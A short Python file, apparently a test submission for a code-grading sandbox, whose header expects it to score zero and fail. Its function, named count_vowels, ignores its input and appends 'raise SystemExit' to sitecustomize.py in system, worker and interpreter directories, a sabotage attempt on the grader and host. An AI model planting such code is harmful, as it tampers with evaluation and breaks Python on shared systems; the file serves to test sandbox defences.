# must: score=0
# must: status=failed
"""Writes into the worker, the interpreter, the course and the system."""

import os
import sys


def count_vowels(text):
    written = []
    for folder in {
        "/",
        "/etc",
        "/usr/lib",
        "/worker",
        "/worker/gptdojo_worker",
        "/tmp",
        sys.prefix,
        sys.base_prefix,
        *sys.path,
    }:
        try:
            with open(os.path.join(folder, "sitecustomize.py"), "a") as file:
                file.write("raise SystemExit")
            written.append(folder)
        except OSError:
            pass
    return f"written: {written}"
